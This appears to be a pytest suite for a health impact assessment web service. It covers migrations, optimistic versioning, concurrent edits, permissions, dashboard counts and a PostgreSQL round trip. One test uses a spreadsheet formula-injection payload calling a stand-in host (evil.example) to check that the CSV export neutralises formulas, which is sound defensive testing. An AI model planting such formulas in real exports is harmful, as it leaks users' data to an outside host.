"""The HIA service's database and domain operations (geotarget.web.db, geotarget.web.service).

Migrations (upgrade on an empty database, downgrade to nothing, models equal to the migrations),
optimistic versioning (a stale version is refused; two concurrent edits: exactly one wins; a failure
inside a save leaves the previous version), the dashboard against hand-counted fixtures, the CSV export,
reproducing a stored screening, and PostgreSQL when a server can be started (skipped otherwise).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import time

import pytest
from sqlalchemy import inspect, select, text

from geotarget.web import db as wdb
from geotarget.web import service
from geotarget.web.settings import Settings

PASSWORD = "correct horse battery staple"
TABLES = {"users", "submissions", "topic_answers", "review_comments", "status_events", "app_settings"}

# accounts made with quick password hashes; `screener`: the screening data, loaded once (tests/conftest.py)
pytestmark = pytest.mark.usefixtures("fast_hashes")



@pytest.fixture(scope="module")
def stockton(screener):
    """Screen the postcode TS18 1AU (Stockton Town Centre) once for the tests."""
    site = screener.site_from_text("TS18 1AU", name="Stockton High Street")
    return site, screener.screen(site)


def _database(tmp_path, name="hia.sqlite3"):
    url = f"sqlite:///{tmp_path / name}"
    engine = wdb.make_engine(url)
    wdb.migrate(url, engine=engine)
    return url, engine, wdb.session_factory(engine)


@pytest.fixture
def database(tmp_path):
    url, engine, sessions = _database(tmp_path)
    yield url, engine, sessions
    engine.dispose()


def _users(sessions):
    with sessions() as s:
        a = service.create_user(s, "ann@example.org", "Ann Applicant", "applicant", PASSWORD)
        b = service.create_user(s, "bob@example.org", "Bob Builder", "applicant", PASSWORD)
        r = service.create_user(s, "rita@example.org", "Rita Reviewer", "reviewer", PASSWORD)
    return a, b, r


def _all_answers(mitigation_topics=()):
    return [{"topic": i, "relevant": "yes" if i % 2 else "no", "impact": "negative" if i in (1, 4) else "neutral",
             "evidence": f"evidence {i}", "mitigation": "a mitigation" if i in mitigation_topics else ""}
            for i in range(1, 12)]


# -- migrations ---------------------------------------------------------------------------------------------------
def test_upgrade_creates_the_schema_and_downgrade_removes_it(tmp_path):
    url = f"sqlite:///{tmp_path / 'm.sqlite3'}"
    engine = wdb.make_engine(url)
    assert wdb.current_revision(engine) is None
    assert wdb.migrate(url, engine=engine) == "0001"
    assert TABLES <= set(inspect(engine).get_table_names())
    assert wdb.migrate(url, engine=engine) == "0001"  # a restart on an up-to-date database changes nothing
    wdb.downgrade(url, "base", engine=engine)
    assert set(inspect(engine).get_table_names()) - {"alembic_version"} == set()
    assert wdb.current_revision(engine) is None
    engine.dispose()


def test_a_database_from_a_newer_geotarget_or_not_a_database_is_refused_clearly(tmp_path, database):
    from geotarget.core.errors import ConfigError

    url, engine, _ = database
    with engine.begin() as conn:
        conn.execute(text("UPDATE alembic_version SET version_num = '0099'"))
    with pytest.raises(ConfigError, match=r"is at schema revision '0099', which this geotarget does not know \(its "
                                          r"newest is 0001\)"):
        wdb.migrate(url)
    junk = tmp_path / "notes.sqlite3"
    junk.write_text("these are my notes, not a database\n" * 100)
    with pytest.raises(ConfigError, match="cannot open or upgrade the database .*notes.sqlite3.*not a database"):
        wdb.migrate(f"sqlite:///{junk}")
    assert junk.read_text().startswith("these are my notes")  # never overwritten


def test_models_match_the_migrations(database):
    from alembic.autogenerate import compare_metadata
    from alembic.runtime.migration import MigrationContext

    _url, engine, _ = database
    with engine.connect() as conn:
        diff = compare_metadata(MigrationContext.configure(conn, opts={"compare_type": True}), wdb.Base.metadata)
    assert diff == []


def test_sqlite_runs_with_wal_and_foreign_keys_in_a_private_file(database, tmp_path):
    _url, engine, sessions = database
    files = sorted(tmp_path.glob("hia.sqlite3*"))
    assert [f.name for f in files] == ["hia.sqlite3", "hia.sqlite3-shm", "hia.sqlite3-wal"]
    for f in files:  # the database, its shared-memory and WAL files: owner only
        assert f.stat().st_mode & 0o077 == 0, f
    with engine.connect() as conn:
        assert conn.execute(text("PRAGMA journal_mode")).scalar() == "wal"
        assert conn.execute(text("PRAGMA foreign_keys")).scalar() == 1
    with sessions() as s, pytest.raises(Exception, match="FOREIGN KEY"):
        s.add(wdb.StatusEvent(submission_id=999, user_id=999, to_status="draft"))
        s.commit()


def test_a_bad_database_url_is_one_clear_error(tmp_path):
    from geotarget.core.errors import ConfigError, DataNotFoundError, ParameterError

    with pytest.raises(ConfigError, match="only SQLite and PostgreSQL"):
        wdb.make_engine("mysql://u@h/db")
    with pytest.raises(DataNotFoundError, match="does not exist"):
        wdb.make_engine(f"sqlite:///{tmp_path / 'missing' / 'x.sqlite3'}")
    with pytest.raises(ParameterError, match="expected to be a SQLite file path"):
        Settings(db_url="ftp://example.org/db")


# -- accounts -----------------------------------------------------------------------------------------------------
def test_users_passwords_are_argon2_and_emails_unique(database):
    _url, _engine, sessions = database
    a, _b, _r = _users(sessions)
    with sessions() as s:
        stored = s.get(wdb.User, a.id)
        assert stored.password_hash.startswith("$argon2id$") and PASSWORD not in stored.password_hash
        assert service.authenticate(s, "ANN@example.org ", PASSWORD).id == a.id
        assert service.authenticate(s, "ann@example.org", "wrong password!") is None
        assert service.authenticate(s, "nobody@example.org", PASSWORD) is None
        with pytest.raises(service.Invalid, match="already registered"):
            service.create_user(s, "Ann@Example.org", "Another Ann", "applicant", PASSWORD)
        with pytest.raises(service.Invalid, match="role was 'admin'"):
            service.create_user(s, "c@example.org", "C", "admin", PASSWORD)
        with pytest.raises(service.Invalid, match="password: expected 10"):
            service.create_user(s, "c@example.org", "C", "applicant", "short")
        with pytest.raises(service.Invalid, match="e-mail address"):
            service.create_user(s, "not an address", "C", "applicant", PASSWORD)


# -- submissions: versioning, concurrency, crashes ----------------------------------------------------------------
def test_submission_stores_the_evidence_snapshot_and_what_it_was_made_on(database, stockton):
    from geotarget.core.version import __version__
    from geotarget.hia.report import render_report

    _url, _engine, sessions = database
    a, _b, _r = _users(sessions)
    site, sc = stockton
    with sessions() as s:
        sub = service.create_submission(s, a, site, sc, "postcode TS18 1AU")
        assert (sub.status, sub.version, len(sub.answers)) == ("draft", 1, 11)
        assert sub.evidence == render_report(sc, "json").decode()
        ev = json.loads(sub.evidence)
        assert sub.site_wkt == ev["site"]["wkt"] == "POINT (444527 518909)"
        assert sub.buffers == [800.0, 2000.0] and sub.vintage == ev["vintage"] == "IoD2025, LSOA 2021"
        assert (sub.council_code, sub.council_name) == ("E06000004", "Stockton-on-Tees")
        assert (sub.ward_code, sub.ward_name) == ("E05014882", "Stockton Town Centre")
        assert sub.geotarget_version == __version__ and sub.generated == ev["generated"]
        assert sub.flagged_topics == [i for i, t in enumerate(ev["topics"], 1) if t["flag_texts"]]
        assert abs(sub.site_lon - -1.3129) < 1e-3 and abs(sub.site_lat - 54.5635) < 1e-3
        assert [e.to_status for e in sub.events] == ["draft"]


def test_reproducing_a_stored_screening_gives_the_identical_json(database, screener, stockton, tmp_path):
    url, engine, sessions = database
    a, _b, _r = _users(sessions)
    site, sc = stockton
    with sessions() as s:
        sid = service.create_submission(s, a, site, sc, "postcode TS18 1AU").id
    engine.dispose()
    from geotarget.web.screener import Screener

    fresh = Screener(Settings(db_url="sqlite:///:memory:", screen_cache_size=0), data=screener.data)
    with wdb.session_factory(wdb.make_engine(url))() as s:  # as after a restart: a new engine, no cache
        sub = service.get_submission(s, s.get(wdb.User, a.id), sid)
        again, same = service.reproduce(sub, fresh)
        assert same and fresh.misses == 1
        from geotarget.hia.report import render_report

        assert render_report(again, "json").decode() == sub.evidence


def test_a_stale_version_is_refused_with_the_current_one(database, stockton):
    _url, _engine, sessions = database
    a, _b, _r = _users(sessions)
    site, sc = stockton
    with sessions() as s:
        sid = service.create_submission(s, a, site, sc, "postcode").id
        sub = service.save_answers(s, a, sid, 1, [{"topic": 3, "relevant": "yes", "evidence": "first"}])
        assert sub.version == 2
        with pytest.raises(service.Conflict, match="version 1, it is now version 2") as e:
            service.save_answers(s, a, sid, 1, [{"topic": 3, "relevant": "no", "evidence": "second"}])
        assert e.value.current_version == 2 and e.value.status == 409
    with sessions() as s:
        sub = s.get(wdb.Submission, sid)
        assert sub.version == 2
        assert [(x.relevant, x.evidence) for x in sub.answers if x.topic == 3] == [("yes", "first")]


def test_two_concurrent_edits_exactly_one_wins(database, stockton):
    _url, _engine, sessions = database
    a, _b, _r = _users(sessions)
    site, sc = stockton
    with sessions() as s:
        sid = service.create_submission(s, a, site, sc, "postcode").id
    barrier = threading.Barrier(2)
    outcome = {}

    def edit(label):
        with sessions() as s:
            user = s.get(wdb.User, a.id)
            service.get_submission(s, user, sid)  # both read version 1 ...
            barrier.wait()  # ... then both write
            try:
                service.save_answers(s, user, sid, 1, [{"topic": 5, "evidence": f"by {label}"}])
                outcome[label] = "saved"
            except service.Conflict as e:
                outcome[label] = f"conflict {e.current_version}"

    threads = [threading.Thread(target=edit, args=(k,)) for k in ("one", "two")]
    for t in threads:
        t.start()
    for t in threads:
        t.join(30)
    assert sorted(outcome.values()) == ["conflict 2", "saved"]
    winner = next(k for k, v in outcome.items() if v == "saved")
    with sessions() as s:
        sub = s.get(wdb.Submission, sid)
        assert sub.version == 2
        assert [x.evidence for x in sub.answers if x.topic == 5] == [f"by {winner}"]


def test_a_failure_inside_a_save_leaves_the_previous_version(database, stockton, monkeypatch):
    _url, _engine, sessions = database
    a, _b, _r = _users(sessions)
    site, sc = stockton
    with sessions() as s:
        sid = service.create_submission(s, a, site, sc, "postcode").id
        service.save_answers(s, a, sid, 1, _all_answers(mitigation_topics=(2,)))
    before = _snapshot(sessions, sid)
    assert before["version"] == 2

    real = service._answer_values

    def bad_values(answers):  # topic 7 gets a value the database refuses, after topics 1-6 were changed
        out = real(answers)
        out[7]["relevant"] = "perhaps"
        return out

    monkeypatch.setattr(service, "_answer_values", bad_values)
    with sessions() as s, pytest.raises(Exception, match="ck_topic_answers_relevant|CHECK constraint"):
        service.save_answers(s, a, sid, 2, [{**x, "evidence": "changed"} for x in _all_answers()])
    monkeypatch.undo()
    assert _snapshot(sessions, sid) == before

    def crash(*args, **kwargs):
        raise RuntimeError("power cut")

    monkeypatch.setattr(service, "_move", crash)  # after the version was claimed, before the status changes
    with sessions() as s, pytest.raises(RuntimeError, match="power cut"):
        service.submit(s, a, sid, 2)
    assert _snapshot(sessions, sid) == before


def _snapshot(sessions, sid):
    with sessions() as s:
        sub = s.get(wdb.Submission, sid)
        return {"version": sub.version, "status": sub.status, "round": sub.review_round,
                "events": [(e.from_status, e.to_status) for e in sub.events],
                "answers": [(x.topic, x.relevant, x.impact, x.evidence, x.mitigation) for x in sub.answers]}


# -- permissions and flow -------------------------------------------------------------------------------------------
def test_permissions_and_the_status_flow(database, stockton):
    _url, _engine, sessions = database
    a, b, r = _users(sessions)
    site, sc = stockton
    with sessions() as s:
        sid = service.create_submission(s, a, site, sc, "postcode").id
        with pytest.raises(service.NotFound):
            service.get_submission(s, b, sid)  # another applicant: not found, nothing leaked
        with pytest.raises(service.NotFound):
            service.get_submission(s, r, sid)  # a draft is the applicant's own
        with pytest.raises(service.NotFound):
            service.save_answers(s, b, sid, 1, _all_answers())
        with pytest.raises(service.Forbidden):
            service.create_submission(s, r, site, sc, "postcode")
        assert service.list_submissions(s, b) == [] and service.list_submissions(s, r) == []
        with pytest.raises(service.Invalid, match=r"topics 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11 need an answer"):
            service.submit(s, a, sid, 1)
        service.save_answers(s, a, sid, 1, _all_answers()[:10])
        with pytest.raises(service.Invalid, match=r"topics 11 need"):
            service.submit(s, a, sid, 2)
        service.save_answers(s, a, sid, 2, _all_answers())
        assert service.submit(s, a, sid, 3).status == "submitted"
        with pytest.raises(service.Invalid, match="answers can be changed while"):
            service.save_answers(s, a, sid, 4, _all_answers())
        with pytest.raises(service.Forbidden):
            service.review(s, a, sid, 4, "accepted")
        with pytest.raises(service.Invalid, match="say what to change"):
            service.review(s, r, sid, 4, "returned", [])
        sub = service.review(s, r, sid, 4, "returned", [{"topic": 4, "text": "Say how traffic is calmed."},
                                                         {"topic": None, "text": "Good start."}])
        assert (sub.status, sub.version, sub.review_round) == ("returned", 5, 1)
        seen = service.get_submission(s, a, sid)
        assert [(c.topic, c.text, c.round) for c in seen.comments] == [(4, "Say how traffic is calmed.", 1),
                                                                        (None, "Good start.", 1)]
        service.save_answers(s, a, sid, 5, _all_answers(mitigation_topics=(4,)))
        service.submit(s, a, sid, 6)
        sub = service.review(s, r, sid, 7, "accepted", [])
        assert (sub.status, sub.version, sub.review_round) == ("accepted", 8, 2)
        assert [(e.from_status, e.to_status) for e in sub.events] == [
            (None, "draft"), ("draft", "submitted"), ("submitted", "returned"), ("returned", "submitted"),
            ("submitted", "accepted")]
        with pytest.raises(service.Invalid, match="only a submitted HIA can be reviewed"):
            service.review(s, r, sid, 8, "returned", [{"text": "again"}])
        assert [x.id for x in service.list_submissions(s, r, status="accepted")] == [sid]
        assert service.list_submissions(s, r, ward="stockton town centre")[0].id == sid
        assert service.list_submissions(s, r, ward="E05014882")[0].id == sid
        assert service.list_submissions(s, r, ward="Norton North") == []
        today = dt.date.today()
        assert len(service.list_submissions(s, r, date_from=today - dt.timedelta(days=1), date_to=today)) == 1
        assert service.list_submissions(s, r, date_from=str(today + dt.timedelta(days=1))) == []
        with pytest.raises(service.Invalid, match="expected to be a date"):
            service.list_submissions(s, r, date_from="yesterday")
        with pytest.raises(service.Invalid, match="status was 'lost'"):
            service.list_submissions(s, r, status="lost")


# -- the dashboard ----------------------------------------------------------------------------------------------
def test_dashboard_figures_match_a_hand_count(database, stockton):
    _url, _engine, sessions = database
    a, b, r = _users(sessions)
    site, sc = stockton
    t0 = dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC)
    with sessions() as s:
        s1 = service.create_submission(s, a, site, sc, "postcode").id
        s2 = service.create_submission(s, b, site, sc, "postcode").id
        s3 = service.create_submission(s, a, site, sc, "postcode").id  # stays a draft: not counted
        service.save_answers(s, a, s1, 1, _all_answers(mitigation_topics=(1, 4)))
        service.submit(s, a, s1, 2)
        service.review(s, r, s1, 3, "returned", [{"topic": 1, "text": "more"}])
        service.save_answers(s, a, s1, 4, _all_answers(mitigation_topics=(1, 4, 9)))
        service.submit(s, a, s1, 5)
        service.review(s, r, s1, 6, "accepted", [])
        service.save_answers(s, b, s2, 1, _all_answers())
        service.submit(s, b, s2, 2)
        service.save_answers(s, a, s3, 1, _all_answers(mitigation_topics=(2,)))
        # hand-set facts: s1 flagged on topics 2 and 4, s2 on topic 4; events 0 h, +2 h, +5 h, +9 h; s2 at +1 h
        s.execute(text("UPDATE submissions SET flagged_topics = :f WHERE id = :i"), {"f": "[2, 4]", "i": s1})
        s.execute(text("UPDATE submissions SET flagged_topics = :f WHERE id = :i"), {"f": "[4]", "i": s2})
        s.execute(text("UPDATE submissions SET flagged_topics = :f WHERE id = :i"), {"f": "[1]", "i": s3})
        hours = {(s1, "submitted"): [0, 5], (s1, "returned"): [2], (s1, "accepted"): [9], (s2, "submitted"): [1]}
        for (sid, to), hs in hours.items():
            ids = s.scalars(select(wdb.StatusEvent.id).where(wdb.StatusEvent.submission_id == sid,
                                                             wdb.StatusEvent.to_status == to)
                            .order_by(wdb.StatusEvent.id)).all()
            for i, h in zip(ids, hs, strict=True):
                s.execute(text("UPDATE status_events SET at = :t WHERE id = :i"),
                          {"t": (t0 + dt.timedelta(hours=h)).replace(tzinfo=None), "i": i})
        s.commit()
    with sessions() as s:
        with pytest.raises(service.Forbidden):
            service.dashboard(s, a)
        d = service.dashboard(s, r)
    assert d["sites"] == 2 and d["by_status"] == {"submitted": 1, "returned": 0, "accepted": 1}
    assert d["by_ward"] == {"Stockton Town Centre": 2} and d["by_council"] == {"Stockton-on-Tees": 2}
    flagged = {t["topic"]: t["flagged"] for t in d["topics"]}
    assert flagged == {**dict.fromkeys(range(1, 12), 0), 2: 1, 4: 2}
    assert d["topics_most_flagged"] == [4, 2]
    mitig = {t["topic"]: t["mitigation"] for t in d["topics"]}
    assert mitig == {**dict.fromkeys(range(1, 12), 0), 1: 1, 4: 1, 9: 1}
    negative = {t["topic"]: t["negative"] for t in d["topics"]}
    assert negative == {**dict.fromkeys(range(1, 12), 0), 1: 2, 4: 2}
    assert d["mitigation"] == {"sites_with_mitigation": 1, "rate": 0.5}
    rv = d["review"]
    assert (rv["reviews"], rv["mean_hours"], rv["median_hours"], rv["max_hours"], rv["waiting"]) == (2, 3.0, 3.0,
                                                                                                    4.0, 1)
    assert {p["id"] for p in d["points"]} == {s1, s2}


def test_dashboard_csv_neutralises_formulas(database, stockton, screener):
    _url, _engine, sessions = database
    a, _b, r = _users(sessions)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    site = screener.site_from_text("TS18 1AU", name=evil)
    sc = screener.screen(site)
    with sessions() as s:
        sid = service.create_submission(s, a, site, sc, "postcode").id
        service.save_answers(s, a, sid, 1, _all_answers())
        service.submit(s, a, sid, 2)
        data = service.dashboard_csv(s, r)
        with pytest.raises(service.Forbidden):
            service.dashboard_csv(s, a)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert len(rows) == 1 and rows[0]["site_name"] == "'" + evil
    assert rows[0]["status"] == "submitted" and rows[0]["ward"] == "Stockton Town Centre"


# -- PostgreSQL (a throwaway server when one can be started; skipped otherwise) -------------------------------------
@pytest.fixture(scope="module")
def postgres_url():
    """Yield a PostgreSQL URL: GEOTARGET_TEST_PG_URL, else a throwaway server (skipped if neither can be had)."""
    url = os.environ.get("GEOTARGET_TEST_PG_URL")
    if url:
        yield url
        return
    pytest.importorskip("psycopg")
    initdb = shutil.which("initdb")
    if not initdb:
        pytest.skip("no PostgreSQL server: set GEOTARGET_TEST_PG_URL or install PostgreSQL (initdb, pg_ctl)")
    bindir = os.path.dirname(os.path.realpath(initdb))
    pg_ctl, createdb = os.path.join(bindir, "pg_ctl"), os.path.join(bindir, "createdb")
    folder = tempfile.mkdtemp(prefix="geotarget-pg-")
    data = os.path.join(folder, "data")
    as_user = []
    if os.geteuid() == 0:  # initdb refuses root: run the throwaway server as the postgres user
        if not shutil.which("runuser"):
            pytest.skip("PostgreSQL: running as root without runuser")
        try:
            shutil.chown(folder, "postgres")
        except (LookupError, OSError) as e:
            pytest.skip(f"PostgreSQL: no postgres user to run a throwaway server ({e})")
        as_user = ["runuser", "-u", "postgres", "--"]
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    started = False
    try:
        try:
            subprocess.run([*as_user, initdb, "-D", data, "-U", "hia", "--auth=trust", "-E", "UTF8"], check=True,
                           capture_output=True, timeout=120)
            subprocess.run([*as_user, pg_ctl, "-D", data, "-l", os.path.join(folder, "log"), "-w", "-o",
                            f"-p {port} -k {folder} -c listen_addresses=127.0.0.1", "start"], check=True,
                           capture_output=True, timeout=60)
            started = True
            subprocess.run([*as_user, createdb, "-h", "127.0.0.1", "-p", str(port), "-U", "hia", "hia"], check=True,
                           capture_output=True, timeout=30)
        except (subprocess.SubprocessError, OSError) as e:
            pytest.skip(f"PostgreSQL: could not start a throwaway server ({e})")
        yield f"postgresql+psycopg://hia@127.0.0.1:{port}/hia"
    finally:
        if started:
            subprocess.run([*as_user, pg_ctl, "-D", data, "-m", "immediate", "-w", "stop"], capture_output=True,
                           timeout=60)
        shutil.rmtree(folder, ignore_errors=True)


@pytest.mark.slow  # starts a throwaway PostgreSQL server (~10 s)
def test_postgresql_migrations_and_a_submission_round_trip(postgres_url, stockton):
    from alembic.autogenerate import compare_metadata
    from alembic.runtime.migration import MigrationContext

    engine = wdb.make_engine(postgres_url)
    try:
        wdb.downgrade(postgres_url, "base", engine=engine)
        assert wdb.migrate(postgres_url, engine=engine) == "0001"
        with engine.connect() as conn:
            ctx = MigrationContext.configure(conn, opts={"compare_type": True})
            assert compare_metadata(ctx, wdb.Base.metadata) == []
        sessions = wdb.session_factory(engine)
        a, _b, r = _users(sessions)
        site, sc = stockton
        with sessions() as s:
            sid = service.create_submission(s, a, site, sc, "postcode").id
            service.save_answers(s, a, sid, 1, _all_answers(mitigation_topics=(3,)))
            with pytest.raises(service.Conflict):
                service.save_answers(s, a, sid, 1, _all_answers())
            service.submit(s, a, sid, 2)
            service.review(s, r, sid, 3, "accepted", [{"topic": 3, "text": "Fine."}])
        with sessions() as s:
            sub = service.get_submission(s, s.get(wdb.User, r.id), sid)
            assert (sub.status, sub.version) == ("accepted", 4)
            assert sub.evidence == json.dumps(json.loads(sub.evidence), ensure_ascii=False, indent=1) + "\n"
            assert sub.created_at.tzinfo is not None and sub.comments[0].text == "Fine."
            assert service.dashboard(s, s.get(wdb.User, r.id))["mitigation"]["rate"] == 1.0
        wdb.downgrade(postgres_url, "base", engine=engine)
        assert set(inspect(engine).get_table_names()) - {"alembic_version"} == set()
    finally:
        engine.dispose()


def test_time_is_stored_in_utc_and_read_back_aware(database):
    _url, _engine, sessions = database
    with sessions() as s:
        u = service.create_user(s, "tz@example.org", "Tz", "applicant", PASSWORD)
        before = time.time()
    with sessions() as s:
        got = s.get(wdb.User, u.id).created_at
    assert got.tzinfo is not None and abs(got.timestamp() - before) < 5
